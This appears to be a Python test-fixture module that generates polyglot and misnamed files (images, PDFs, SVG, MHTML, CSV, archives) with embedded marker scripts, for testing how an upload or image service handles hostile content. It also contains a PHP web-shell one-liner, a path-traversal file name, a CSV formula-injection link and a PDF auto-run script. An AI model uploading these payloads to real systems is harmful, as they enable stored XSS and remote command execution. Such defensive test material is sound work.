"""Make files that are two things at once, or not what their name says."""

from __future__ import annotations

import io
import struct
import zipfile
from typing import Any

from PIL import Image, PngImagePlugin

from tests.pictures.making import chunk, drawn, encoded, exif, gif, moving

# What would be seen if any of this ran: a title of its own, or a request to /ran.
RUN = "document.title='ran';new Image().src='/ran'"
SCRIPT = f"<script>{RUN}</script>"
HTML = f'<!doctype html><html><head><title>x</title>{SCRIPT}</head><body onload="{RUN}">x</body></html>'
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script>'
    f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{RUN}"/></foreignObject></svg>'
)
MHTML = (
    'MIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n--b\r\n'
    f"Content-Type: text/html\r\n\r\n{HTML}\r\n--b--\r\n"
)
PDF = (
    f"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1);{RUN})>>>>endobj\n"
    "trailer<</Root 1 0 R>>\n%%EOF"
)
XSL = b"<?xml version='1.0'?><xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform'/>"
KEY = b"<?php system($_GET[0]); ?>"


def _zip() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as jar:
        jar.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil\n")
        jar.writestr("Evil.class", b"\xca\xfe\xba\xbe")
        jar.writestr("index.html", HTML)
    return stream.getvalue()


def _png(**texts: str) -> bytes:
    info = PngImagePlugin.PngInfo()
    for name, text in texts.items():
        info.add_text(name, text)
    return encoded(drawn(), "PNG", pnginfo=info)


def _in_png(kind: bytes, data: bytes) -> bytes:
    content = encoded(drawn(), "PNG")
    return content[:33] + chunk(kind, data) + content[33:]


def _with_exif(kind: str) -> bytes:
    data = exif()
    data[0x010E] = HTML
    return encoded(drawn(), kind, exif=data)


def _gif_script() -> bytes:
    """Return the GIF whose first bytes are also a program: GIF89a/*...*/=1;..."""
    content = bytearray(gif(1, 0x2A2F & 0xFF, 8))
    content[6:8] = b"/*"
    return bytes(content) + f"*/=1;{RUN};//".encode()


def _wav(data: str) -> bytes:
    body = b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data" + data.encode()
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _palette_script() -> bytes:
    image = drawn(32, 32, "P")
    palette = (SCRIPT.encode() * 40)[:768]
    image.putpalette(list(palette))
    return encoded(image, "PNG")


def _pixels_script() -> bytes:
    """Return a PNG whose stored pixels spell a page."""
    row = (HTML.encode() + b" " * 600)[:600]
    return encoded(Image.frombytes("RGB", (200, 8), row * 8), "PNG", compress_level=0)


def polyglots() -> list[tuple[str, bytes]]:
    """Return name and content of every hostile file."""
    html, svg = HTML.encode(), SVG.encode()
    pictures: dict[str, Any] = {kind: encoded(drawn(), kind) for kind in ("PNG", "JPEG", "GIF", "WEBP", "AVIF")}
    appended = [(f"after.{kind.lower()}", content + html) for kind, content in pictures.items()]
    jars = [(f"gifar.{kind.lower()}", content + _zip()) for kind, content in pictures.items()]
    metadata = [(f"exif.{kind.lower()}", _with_exif(kind)) for kind in ("PNG", "JPEG", "WEBP", "AVIF")]
    named = [(f"named-{kind.lower()}.html", content + html) for kind, content in pictures.items()]
    return [
        *appended,
        *jars,
        *metadata,
        *named,
        ("text.png", _png(Title=HTML, Comment=SCRIPT, **{"XML:com.adobe.xmp": SVG})),
        ("own-chunk.png", _in_png(b"shEl", html)),
        ("php-chunk.png", _in_png(b"tEXt", b"Comment\0" + KEY)),
        ("palette.png", _palette_script()),
        ("pixels.png", _pixels_script()),
        ("comment.gif", encoded(drawn(), "GIF", comment=html)),
        ("comment.jpg", encoded(drawn(), "JPEG", comment=html)),
        ("xmp.webp", encoded(drawn(), "WEBP", xmp=svg)),
        ("moving.gif", moving("GIF", comment=html) + html),
        ("profile.png", encoded(drawn(), "PNG", icc_profile=html)),
        ("script.gif", _gif_script()),
        ("script.js", _gif_script()),
        ("page.html", html),
        ("page.HTM", html),
        ("page.xhtml", html),
        ("page.html.png", html),
        ("page.jpg", html),
        ("page.svg", svg),
        ("drawing.svgz", svg),
        ("drawing.png", svg),
        ("drawing.xml", b"<?xml version='1.0'?>" + svg),
        ("archive.mhtml", MHTML.encode()),
        ("archive.mht", MHTML.encode()),
        ("mail.eml", MHTML.encode()),
        ("paper.pdf", PDF.encode() + html),
        ("paper-page.pdf", html + PDF.encode()),
        ("page.pdf.html", PDF.encode() + html),
        ("code.js", RUN.encode()),
        ("module.mjs", RUN.encode()),
        ("worker.json", RUN.encode()),
        ("style.css", b"body{background:url(/ran)}"),
        ("table.csv", f'=HYPERLINK("javascript:{RUN}"),{SCRIPT}'.encode()),
        ("notes.txt", html),
        ("sound.wav", _wav(HTML)),
        ("old.swf", b"FWS\x09" + html),
        (
            "rules.xsl",
            XSL + html,
        ),
        ("no-ending", html),
        ("double.php.png", KEY + html),
        ("..%2f..%2findex.html", html),
        ("bom.txt", b"\xef\xbb\xbf" + html),
        ("wide.txt", HTML.encode("utf-16")),
        ("zip.docx", _zip()),
        ("applet.jar", _zip()),
    ]
